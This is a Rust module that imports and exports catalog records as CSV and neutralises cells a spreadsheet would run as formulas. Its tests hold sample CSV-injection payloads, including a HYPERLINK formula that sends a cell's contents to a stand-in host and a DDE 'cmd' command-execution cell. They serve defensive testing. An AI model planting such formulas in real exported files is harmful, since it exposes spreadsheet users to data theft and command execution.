//! CSV in and out, one kind of record per file, driven by the record catalog.
//!
//! Export writes RFC 4180 CSV with the kind's field names as the header (ids first, lists joined
//! by "; "), optionally with a UTF-8 byte order mark for spreadsheet programs. Import maps each
//! header to a field by its name, label or importer synonym; a column that matches no field is
//! kept in the record's notes (or reported, for kinds without notes), never silently dropped.
//!
//! A cell a spreadsheet would run as a formula (one starting with `=`, `+`, `-`, `@`, a tab or a
//! carriage return) is written with a leading `'`, as OWASP advises against CSV injection, and
//! import takes that `'` off again, so our own export reads back as it was. No I/O here.

use std::collections::BTreeMap;

use crate::Error;
use crate::catalog::{self, FieldError};
use crate::catalog::{KindDef, Value};
use crate::log::store::Record;
use crate::plan::binder::{Binder, ImportError, ImportReport};

/// A CSV file that cannot be read.
#[derive(Debug, thiserror::Error)]
pub enum CsvError {
    /// The CSV itself is malformed.
    #[error("line {line}: {message}")]
    Malformed {
        /// 1-based line.
        line: u64,
        /// What is wrong.
        message: String,
    },
    /// No header row.
    #[error("the CSV file is empty (no header row)")]
    Empty,
    /// No column matches the kind's title field.
    #[error("no column for \"{field}\" (the {kind}'s name); the columns are: {columns}")]
    NoTitleColumn {
        /// The kind.
        kind: &'static str,
        /// Its title field.
        field: &'static str,
        /// The header found.
        columns: String,
    },
}

/// What reading a CSV file found.
#[derive(Debug, Default)]
pub struct Parsed {
    /// Rows as records (field → value), in file order.
    pub rows: Vec<BTreeMap<String, serde_json::Value>>,
    /// Notes for the import report.
    pub notes: Vec<String>,
}

use crate::catalog::compact_key as key;

/// Where a CSV file's columns go: the field of each, the id column, the columns no field takes
/// (kept in the notes when the kind has notes).
struct Layout<'a> {
    headers: &'a csv::StringRecord,
    columns: &'a [Option<&'static crate::catalog::FieldDef>],
    id_column: Option<usize>,
    unknown: &'a [usize],
    keeps_notes: bool,
}

impl Layout<'_> {
    /// One row as a record: each cell in its field (a list field split at ";" and new lines),
    /// what no field takes appended to the notes as "column: value".
    fn record(&self, row: &csv::StringRecord) -> BTreeMap<String, serde_json::Value> {
        let mut record = BTreeMap::new();
        if let Some(id) = self
            .id_column
            .and_then(|i| row.get(i))
            .filter(|id| !id.trim().is_empty())
        {
            record.insert(
                "id".to_string(),
                serde_json::Value::String(id.trim().to_string()),
            );
        }
        let mut extra = Vec::new();
        for (i, cell) in row.iter().enumerate() {
            let cell = unneutralise(cell.trim());
            if cell.is_empty() {
                continue;
            }
            match self.columns.get(i).copied().flatten() {
                Some(f) if f.list => {
                    let items: Vec<serde_json::Value> = cell
                        .split([';', '\n'])
                        .map(str::trim)
                        .filter(|s| !s.is_empty())
                        .map(|s| serde_json::Value::String(s.into()))
                        .collect();
                    record.insert(f.name.to_string(), serde_json::Value::Array(items));
                }
                Some(f) => {
                    record.insert(f.name.to_string(), serde_json::Value::String(cell.into()));
                }
                None if self.unknown.contains(&i) && self.keeps_notes => {
                    extra.push(format!("{}: {cell}", &self.headers[i]))
                }
                None => {}
            }
        }
        if !extra.is_empty() {
            let notes = record
                .get("notes")
                .and_then(|n| n.as_str())
                .map(str::to_string);
            let joined = notes
                .into_iter()
                .chain(extra)
                .collect::<Vec<_>>()
                .join("\n");
            record.insert("notes".to_string(), serde_json::Value::String(joined));
        }
        record
    }
}

/// Reads CSV rows of `kind` (UTF-8, with or without a byte order mark).
pub fn parse(kind: &'static KindDef, bytes: &[u8]) -> Result<Parsed, CsvError> {
    let bytes = bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(bytes);
    let mut reader = csv::ReaderBuilder::new().flexible(true).from_reader(bytes);
    let malformed = |e: csv::Error| CsvError::Malformed {
        line: e.position().map_or(0, |p| p.line()),
        message: match e.kind() {
            csv::ErrorKind::Utf8 { .. } => "not UTF-8 text (save the file as CSV UTF-8)".into(),
            _ => e.to_string(),
        },
    };
    let headers = reader.headers().map_err(malformed)?.clone();
    if headers.iter().all(|h| h.trim().is_empty()) {
        return Err(CsvError::Empty);
    }
    let columns: Vec<Option<&'static crate::catalog::FieldDef>> = headers
        .iter()
        .map(|h| {
            if key(h) == "id" {
                None
            } else {
                kind.field_for_header(h)
            }
        })
        .collect();
    if !columns
        .iter()
        .any(|c| c.is_some_and(|f| f.name == kind.title))
    {
        return Err(CsvError::NoTitleColumn {
            kind: kind.name,
            field: kind.title,
            columns: headers.iter().collect::<Vec<_>>().join(", "),
        });
    }
    let id_column = headers.iter().position(|h| key(h) == "id");
    let unknown: Vec<usize> = (0..headers.len())
        .filter(|&i| columns[i].is_none() && Some(i) != id_column && !headers[i].trim().is_empty())
        .collect();
    let keeps_notes = kind.field("notes").is_some();
    let mut parsed = Parsed::default();
    for name in unknown.iter().map(|&i| &headers[i]) {
        parsed.notes.push(if keeps_notes {
            format!(
                "column \"{name}\" matches no {} field; its values are kept in the notes",
                kind.name
            )
        } else {
            format!(
                "column \"{name}\" matches no {} field and was not imported",
                kind.name
            )
        });
    }
    let layout = Layout {
        headers: &headers,
        columns: &columns,
        id_column,
        unknown: &unknown,
        keeps_notes,
    };
    for row in reader.records() {
        let row = row.map_err(malformed)?;
        if row.iter().all(|c| c.trim().is_empty()) {
            continue;
        }
        parsed.rows.push(layout.record(&row));
    }
    Ok(parsed)
}

/// Writes records of `kind` as CSV: header of field names, ids first, lists joined by "; ".
pub fn write(kind: &KindDef, records: &[Record], bom: bool) -> Vec<u8> {
    let mut out = if bom {
        b"\xEF\xBB\xBF".to_vec()
    } else {
        Vec::new()
    };
    let mut writer = csv::Writer::from_writer(&mut out);
    let fields: Vec<_> = kind.fields().collect();
    let header: Vec<&str> = std::iter::once("id")
        .chain(fields.iter().map(|f| f.name))
        .collect();
    let rows = records.iter().map(|r| {
        std::iter::once(r.id.clone())
            .chain(fields.iter().map(|f| match r.fields.get(f.name) {
                Some(Value::List(items)) => items.join("; "),
                Some(v) => v.display(),
                None => String::new(),
            }))
            .map(neutralise)
            .collect::<Vec<_>>()
    });
    // Writing to memory cannot fail.
    let _ = writer.write_record(&header);
    for row in rows {
        let _ = writer.write_record(&row);
    }
    let _ = writer.flush();
    drop(writer);
    out
}

/// What makes a spreadsheet read a cell as a formula when it comes first (OWASP's list), and
/// the full-width forms of `= + - @`, which some spreadsheets take for the same (an IME types
/// them on a Japanese or Chinese keyboard).
const FORMULA_START: [char; 10] = [
    '=', '+', '-', '@', '\t', '\r', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
];

/// Whether a cell that starts like a formula is only numbers or phone numbers: `-12.5`,
/// `+46 70 123 45 67`, `+1 (555) 010-0100; 08-123 456` (a list, as phones are written). These
/// are written as they are, so phone numbers stay readable in a spreadsheet rather than shown
/// behind a stray `'`. They are safe as they are: with no letter there is no function
/// (`HYPERLINK`, `WEBSERVICE`), no cell reference and no DDE (`cmd|…`), and without `|`, `!`,
/// `"`, `&` or `:` there is nothing to call or join — at worst a spreadsheet does arithmetic on
/// the digits. A `+` or `@` anywhere but first in a number (`-2+3`), or a `-` starting anything
/// but a plain number, still gets the `'`.
fn plain_number(cell: &str) -> bool {
    let digits_start = |s: &str| s.starts_with(|c: char| c.is_ascii_digit());
    let phone = |s: &str| {
        digits_start(s)
            && s.chars()
                .all(|c| c.is_ascii_digit() || " ()./-".contains(c))
    };
    cell.split(';').map(str::trim).all(|part| {
        if let Some(number) = part.strip_prefix('-') {
            // A negative number: digits with at most one decimal point or comma.
            digits_start(number)
                && number
                    .chars()
                    .all(|c| c.is_ascii_digit() || c == '.' || c == ',')
                && number.matches(['.', ',']).count() <= 1
        } else {
            phone(part.strip_prefix('+').unwrap_or(part))
        }
    })
}

/// Whether import would take a leading `'` off this cell (so export must add one).
fn starts_neutralised(cell: &str) -> bool {
    let mut chars = cell.chars();
    chars.next() == Some('\'')
        && chars
            .next()
            .is_some_and(|c| c == '\'' || FORMULA_START.contains(&c))
}

/// A cell as written: with a leading `'` when a spreadsheet would run it as a formula (and
/// when it already starts with what import would take for our `'`, so it reads back as it was).
fn neutralise(cell: String) -> String {
    let formula = cell.starts_with(FORMULA_START) && !plain_number(&cell);
    if formula || starts_neutralised(&cell) {
        format!("'{cell}")
    } else {
        cell
    }
}

/// A cell as read: the `'` that [`neutralise`] added is taken off. Only a `'` followed by a
/// formula character or another `'` is ours; any other leading `'` is the cell's own.
fn unneutralise(cell: &str) -> &str {
    if starts_neutralised(cell) {
        &cell[1..]
    } else {
        cell
    }
}

/// Imports records of `kind` from a CSV file (headers matched to the kind's fields).
pub fn import(binder: &mut Binder, kind: &str, bytes: &[u8]) -> crate::Result<ImportReport> {
    let kind = catalog::kind(kind)?;
    if kind.system {
        return Err(FieldError::SystemKind(kind.name).into());
    }
    let parsed = parse(kind, bytes)?;
    let mut records = BTreeMap::new();
    records.insert(kind.name.to_string(), parsed.rows);
    // Record N of the file is on line N + 1, after the header.
    let mut report = binder.import_records(&records).map_err(|e| match e {
        Error::Import(ImportError::BadRecord {
            kind,
            index,
            message,
        }) => ImportError::BadRecord {
            kind,
            index,
            message: format!("(line {}) {message}", index + 1),
        }
        .into(),
        other => other,
    })?;
    report.notes = parsed.notes;
    Ok(report)
}

/// The live records of `kind` as CSV (with a UTF-8 byte order mark when `bom`).
pub fn export(binder: &Binder, kind: &str, bom: bool) -> crate::Result<Vec<u8>> {
    let kind_def = catalog::kind(kind)?;
    Ok(write(kind_def, &binder.list(kind, false)?, bom))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn headers_match_by_name_label_or_synonym_and_unknown_columns_are_kept() {
        let kind = crate::catalog::kind("vendor").unwrap();
        let csv = "\u{feff}Vendor,Purpose,Account Number,Support line,Region\nAcme Cloud,Hosting,AC-1,+1 555 0100,EU\n,,,,\n";
        let parsed = parse(kind, csv.as_bytes()).unwrap();
        assert_eq!(parsed.rows.len(), 1, "blank rows are skipped");
        let row = &parsed.rows[0];
        assert_eq!(row["name"], "Acme Cloud");
        assert_eq!(row["service"], "Hosting");
        assert_eq!(row["account_id"], "AC-1");
        assert_eq!(row["support_phone"], "+1 555 0100");
        assert_eq!(row["notes"], "Region: EU");
        assert!(parsed.notes[0].contains("\"Region\""));
    }

    #[test]
    fn malformed_csv_names_the_line() {
        let kind = crate::catalog::kind("contact").unwrap();
        assert!(matches!(
            parse(kind, b"Phone\n1\n"),
            Err(CsvError::NoTitleColumn { .. })
        ));
        let err = parse(kind, b"Name,Phones\nA,1\n\xff\xfe,2\n")
            .map(|_| ())
            .unwrap_err();
        assert_eq!(
            err.to_string(),
            "line 3: not UTF-8 text (save the file as CSV UTF-8)"
        );
    }

    /// The cells of issue 24's review: each would run, or reach out, in a spreadsheet.
    const ATTACKS: [&str; 6] = [
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
        "@SUM(1)",
        "-2+3",
        "+cmd|' /C calc'!A0",
        "\tTab first",
        "\rReturn first",
    ];

    fn contact(id: &str, name: &str, org: &str, phones: &[&str]) -> Record {
        let mut fields = BTreeMap::new();
        fields.insert("name".into(), Value::Text(name.into()));
        fields.insert("org".into(), Value::Text(org.into()));
        fields.insert(
            "phones".into(),
            Value::List(phones.iter().map(|p| p.to_string()).collect()),
        );
        Record {
            kind: "contact".into(),
            id: id.into(),
            fields,
            deleted: false,
        }
    }

    #[test]
    fn formula_cells_are_written_behind_a_quote_and_numbers_and_phones_are_not() {
        for attack in ATTACKS {
            assert_eq!(neutralise(attack.into()), format!("'{attack}"));
        }
        for plain in [
            "+46 70 123",
            "+46 70 123 45 67",
            "+1 (555) 010-0100",
            "-12",
            "-12.5",
            "08-123 456",
            "+46 70 123 45 67; +46 8 555 000; 08-123 456",
            "Åsa Öberg",
            "it's fine",
        ] {
            assert_eq!(neutralise(plain.into()), plain, "left as it is");
        }
        for formula in [
            "+46 70 123 ext. 4",
            "+46 70 123; -2+3",
            "+46 70 123; @x",
            "-1-1",
            "+1+1",
            "-",
            "+",
            "+A1",
            "-.5",
            "+;",
            "\u{FF1D}HYPERLINK(\"https://evil.example\")",
            "\u{FF0B}1",
            "\u{FF20}SUM(1)",
        ] {
            assert!(neutralise(formula.into()).starts_with('\''), "{formula}");
        }
        // A cell that already starts like one we neutralised keeps its own quote.
        assert_eq!(neutralise("'=x".into()), "''=x");
        assert_eq!(neutralise("''".into()), "'''");
        assert_eq!(unneutralise("''=x"), "'=x");
        assert_eq!(unneutralise("'quoted'"), "'quoted'", "not ours: kept");
        assert_eq!(unneutralise(&neutralise("\u{FF1D}1".into())), "\u{FF1D}1");
    }

    #[test]
    fn our_export_reads_back_as_it_was_and_a_second_reader_sees_the_quote() {
        let kind = crate::catalog::kind("contact").unwrap();
        let mut records: Vec<Record> = ATTACKS
            .iter()
            .enumerate()
            .map(|(i, a)| contact(&format!("c{i}"), a, a, &[a]))
            .collect();
        records.push(contact(
            "p",
            "'=quoted",
            "'plain",
            &["+46 70 123", "08-123"],
        ));
        records.push(contact("q", "q", "q", &["+46 70 123", "@x"]));
        let bytes = write(kind, &records, true);

        // The csv crate, as a spreadsheet would get the cells: none starts a formula.
        let mut reader = csv::Reader::from_reader(&bytes[3..]);
        let header = reader.headers().unwrap().clone();
        let column = |name: &str| header.iter().position(|h| h == name).unwrap();
        let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
        for (row, attack) in rows.iter().zip(ATTACKS) {
            for name in ["name", "org", "phones"] {
                assert_eq!(&row[column(name)], format!("'{attack}"), "{name}");
            }
        }
        let last = &rows[ATTACKS.len()];
        assert_eq!(&last[column("name")], "''=quoted");
        assert_eq!(&last[column("org")], "'plain");
        assert_eq!(
            &last[column("phones")],
            "+46 70 123; 08-123",
            "phones as they are"
        );
        let after = &rows[ATTACKS.len() + 1];
        assert_eq!(
            &after[column("phones")],
            "'+46 70 123; @x",
            "not only phones"
        );

        // Read back by our import: the quotes we added are gone, the values as they were (the
        // quote even keeps a leading tab from being trimmed away).
        let parsed = parse(kind, &bytes).unwrap();
        for (row, record) in parsed.rows.iter().zip(&records) {
            for name in ["name", "org"] {
                assert_eq!(row[name], record.fields[name].display(), "{name}");
            }
        }
        let phones = |i: usize| parsed.rows[i]["phones"].clone();
        assert_eq!(phones(0), serde_json::json!([ATTACKS[0]]));
        assert_eq!(
            phones(ATTACKS.len()),
            serde_json::json!(["+46 70 123", "08-123"])
        );
        assert_eq!(
            phones(ATTACKS.len() + 1),
            serde_json::json!(["+46 70 123", "@x"])
        );
    }

    proptest::proptest! {
        #[test]
        fn import_undoes_exactly_what_export_did(cell in "['=+@\\t\\r -]{0,3}.{0,6}") {
            let written = neutralise(cell.clone());
            proptest::prop_assert_eq!(unneutralise(&written), cell.as_str());
            proptest::prop_assert!(
                !written.starts_with(FORMULA_START) || plain_number(&written),
                "{:?} starts a formula", written
            );
        }
    }
}
